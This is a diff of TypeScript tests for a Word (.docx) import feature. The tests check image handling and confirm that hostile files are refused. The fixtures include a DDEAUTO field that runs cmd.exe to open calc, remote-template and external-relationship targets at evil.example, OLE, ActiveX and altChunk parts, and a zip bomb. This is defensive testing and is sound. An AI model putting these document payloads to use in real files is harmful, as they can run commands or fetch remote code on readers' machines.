@@ -4,7 +4,7 @@ import { db } from "@/lib/db";
 import { importDocx } from "@/lib/drafts/import-docx";
 import { getAttachment } from "@/lib/drafts/attachments";
 import { ForbiddenError, NotFoundError, ValidationError } from "@/lib/errors";
-import { officerDocx, PNG } from "@/tests/fixtures/docx";
+import { addRelationships, addToBody, fieldParagraph, officerDocx, patchDocx, pictureParagraph, PNG, REL } from "@/tests/fixtures/docx";
 import { makeCounty, type County } from "./fixtures";
 
 let c: County;
@@ -60,6 +60,54 @@ describe("importing a Word draft", () => {
     expect(draft.body).toContain('<img src=x onerror="alert(1)">');
   });
 
+  it("stores a picture placed many times once, and reads only the first 100 places", async () => {
+    const bytes = await patchDocx(await officerDocx({ withImage: true }), {
+      // The picture of officerDocx (rId7) placed 500 times more.
+      "word/document.xml": addToBody(pictureParagraph("rId7").repeat(500)),
+    });
+    const { draft, images, imagesSkipped } = await importDocx(c.officerA, { fileName: "重复图片.docx", bytes, now });
+    expect([images, imagesSkipped]).toEqual([1, 401]);
+    const files = await db.attachment.findMany({ where: { draftId: draft.id, kind: "IMAGE" } });
+    expect(files.map((f) => [f.fileName, f.size])).toEqual([["重复图片-图1.png", PNG.length]]);
+  });
+
+  it("keeps at most 100 distinct pictures", async () => {
+    const media = Array.from({ length: 120 }, (_, i) => Buffer.concat([PNG, Buffer.from([i])]));
+    const bytes = await patchDocx(await officerDocx(), {
+      ...Object.fromEntries(media.map((data, i) => [`word/media/p${i}.png`, data])),
+      "word/_rels/document.xml.rels": addRelationships(...media.map((_, i) => `<Relationship Id="rP${i}" Type="${REL}/image" Target="media/p${i}.png"/>`)),
+      "word/document.xml": addToBody(media.map((_, i) => pictureParagraph(`rP${i}`)).join("")),
+    });
+    const { draft, images, imagesSkipped } = await importDocx(c.officerA, { fileName: "多图.docx", bytes, now });
+    expect([images, imagesSkipped]).toEqual([100, 20]);
+    expect(await db.attachment.count({ where: { draftId: draft.id, kind: "IMAGE" } })).toBe(100);
+  });
+
+  it("keeps a picture of a type it does not know as application/octet-stream, .bin", async () => {
+    const bytes = await patchDocx(await officerDocx(), {
+      "word/media/photo.xyz": PNG,
+      "word/_rels/document.xml.rels": addRelationships(`<Relationship Id="rX" Type="${REL}/image" Target="media/photo.xyz"/>`),
+      "word/document.xml": addToBody(pictureParagraph("rX")),
+    });
+    const { draft, images } = await importDocx(c.officerA, { fileName: "未知图片.docx", bytes, now });
+    expect(images).toBe(1);
+    const files = await db.attachment.findMany({ where: { draftId: draft.id, kind: "IMAGE" } });
+    expect(files.map((f) => [f.fileName, f.contentType, f.size])).toEqual([["未知图片-图1.bin", "application/octet-stream", PNG.length]]);
+  });
+
+  it("accepts external hyperlinks and ordinary fields", async () => {
+    const bytes = await patchDocx(await officerDocx(), {
+      "word/_rels/document.xml.rels": addRelationships(`<Relationship Id="rH" Type="${REL}/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>`),
+      "word/document.xml": addToBody(
+        `<w:p><w:hyperlink r:id="rH"><w:r><w:t>中国政府网</w:t></w:r></w:hyperlink></w:p>` +
+          fieldParagraph([' HYPERLINK "http://hidden.example/dde" '], "链接") +
+          `<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`,
+      ),
+    });
+    const { draft } = await importDocx(c.officerA, { fileName: "链接.docx", bytes, now });
+    expect(draft.body).toContain("中国政府网");
+  });
+
   it("only officers import, into their own unit", async () => {
     const bytes = await officerDocx();
     await expect(importDocx(c.reviewerA, { fileName: "a.docx", bytes, now })).rejects.toThrow(ForbiddenError);
@@ -103,5 +151,115 @@ describe("refusing hostile or wrong files, storing nothing", () => {
     const bomb = await big.generateAsync({ type: "nodebuffer", compression: "DEFLATE", compressionOptions: { level: 9 } });
     expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
     await refused("炸弹.docx", bomb, /解压后过大/);
+  });
+
+  it("a document part over 20MB unpacked", async () => {
+    const bytes = await patchDocx(await officerDocx(), { "word/document.xml": (doc) => doc.replace("<w:body>", `<w:body>${" ".repeat(21 * 1024 * 1024)}`) });
+    expect(bytes.length).toBeLessThan(1024 * 1024);
+    await refused("大文档.docx", bytes, /文档内容过大/);
+  });
+
+  it("a remote template, external pictures, frames or subdocuments", async () => {
+    const base = await officerDocx();
+    const external = (type: string, target: string) =>
+      `<Relationship Id="rEvil" Type="${REL}/${type}" Target="${target}" TargetMode="External"/>`;
+    await refused(
+      "模板.docx",
+      await patchDocx(base, {
+        "word/_rels/settings.xml.rels": addRelationships(external("attachedTemplate", "http://evil.example/t.dotm")),
+        "word/settings.xml": (xml) => xml.replace(/(<w:settings[^>]*>)/, `$1<w:attachedTemplate r:id="rEvil"/>`),
+      }),
+      /外部模板/,
+    );
+    await refused("图片.docx", await patchDocx(base, { "word/_rels/document.xml.rels": addRelationships(external("image", "http://evil.example/p.png")) }), /外部/);
+    await refused("框架.docx", await patchDocx(base, { "word/_rels/webSettings.xml.rels": addRelationships(external("frame", "\\\\evil\\share\\f.docx")) }), /外部/);
+    await refused("子文档.docx", await patchDocx(base, { "word/_rels/document.xml.rels": addRelationships(external("subDocument", "file:///C:/sub.docx")) }), /外部/);
+    // Spelled the way a hostile file might: single quotes, an entity, ">" in a value.
+    await refused(
+      "模板.docx",
+      await patchDocx(base, {
+        "word/_rels/settings.xml.rels": addRelationships(`<Relationship Target='http://evil.example/a>b' TargetMode='Exte&#114;nal' Id='rEvil' Type='${REL}/attachedTemplate'/>`),
+      }),
+      /外部模板/,
+    );
+  });
+
+  it("but not a document made from a template on the author's disk, or one with a Word chart", async () => {
+    const base = await officerDocx();
+    const fromTemplate = await patchDocx(base, {
+      "word/_rels/settings.xml.rels": addRelationships(
+        `<Relationship Id="rT" Type="${REL}/attachedTemplate" Target="file:///C:\\Users\\xxy\\Documents\\公文模板.dotx" TargetMode="External"/>`,
+      ),
+    });
+    // A template on a network share is refused; one on the author's disk is fine.
+    await refused(
+      "共享模板.docx",
+      await patchDocx(base, {
+        "word/_rels/settings.xml.rels": addRelationships(`<Relationship Id="rT" Type="${REL}/attachedTemplate" Target="file://server/share/t.dotm" TargetMode="External"/>`),
+      }),
+      /外部模板/,
+    );
+    const { draft } = await importDocx(c.officerA, { fileName: "模板写的.docx", bytes: fromTemplate, now });
+    expect(draft.title).toContain("积分超市");
+    const withChart = await patchDocx(base, {
+      "word/embeddings/Microsoft_Excel_Worksheet.xlsx": Buffer.from("PK chart data"),
+      "word/charts/chart1.xml": "<c:chartSpace/>",
+      "word/charts/_rels/chart1.xml.rels": addRelationships(`<Relationship Id="rId1" Type="${REL}/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>`),
+    });
+    await expect(importDocx(c.officerA, { fileName: "有图表.docx", bytes: withChart, now })).resolves.toBeTruthy();
+  });
+
+  it("OLE objects, packages, ActiveX controls and altChunks", async () => {
+    const base = await officerDocx();
+    await refused("OLE.docx", await patchDocx(base, { "word/embeddings/oleObject1.bin": Buffer.from("ole") }), /OLE/);
+    await refused(
+      "OLE.docx",
+      await patchDocx(base, {
+        "word/media/ole.bin": Buffer.from("ole"),
+        "word/_rels/document.xml.rels": addRelationships(`<Relationship Id="rO" Type="${REL}/oleObject" Target="media/ole.bin"/>`),
+      }),
+      /OLE/,
+    );
+    await refused("包.docx", await patchDocx(base, { "word/_rels/document.xml.rels": addRelationships(`<Relationship Id="rP" Type="${REL}/package" Target="media/x.xlsx"/>`) }), /OLE/);
+    await refused("控件.docx", await patchDocx(base, { "word/activeX/activeX1.xml": "<ax:ocx/>" }), /ActiveX/);
+    await refused(
+      "altChunk.docx",
+      await patchDocx(base, {
+        "word/afchunk.mht": "MIME-Version: 1.0",
+        "word/_rels/document.xml.rels": addRelationships(`<Relationship Id="rA" Type="${REL}/aFChunk" Target="afchunk.mht"/>`),
+        "word/document.xml": addToBody(`<w:altChunk r:id="rA"/>`),
+      }),
+      /altChunk/,
+    );
+  });
+
+  it("DDE fields, in the document or a header, however the instruction is split", async () => {
+    const base = await officerDocx();
+    const dde = 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"';
+    await refused("DDE.docx", await patchDocx(base, { "word/document.xml": addToBody(fieldParagraph([dde])) }), /DDE/);
+    await refused("DDE.docx", await patchDocx(base, { "word/document.xml": addToBody(fieldParagraph(["DD", "EAUTO c:\\x"])) }), /DDE/);
+    await refused(
+      "DDE.docx",
+      await patchDocx(base, { "word/document.xml": addToBody(`<w:p><w:fldSimple w:instr=" DDE excel sheet1 r1c1"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`) }),
+      /DDE/,
+    );
+    await refused(
+      "DDE.docx",
+      await patchDocx(base, {
+        "word/header1.xml": `<?xml version="1.0" encoding="UTF-8"?><w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${fieldParagraph([dde])}</w:hdr>`,
+      }),
+      /DDE/,
+    );
+  });
+
+  it("a main document under a name that is not read as XML", async () => {
+    const base = await officerDocx();
+    const zip = await JSZip.loadAsync(base);
+    const doc = await zip.file("word/document.xml")!.async("string");
+    const bytes = await patchDocx(base, {
+      "word/main.dat": addToBody(fieldParagraph(["DDEAUTO c:\\x"]))(doc),
+      "_rels/.rels": (rels) => rels.replace('Target="word/document.xml"', 'Target="word/main.dat"'),
+    });
+    await refused("结构.docx", bytes, /结构异常/);
   });
 });
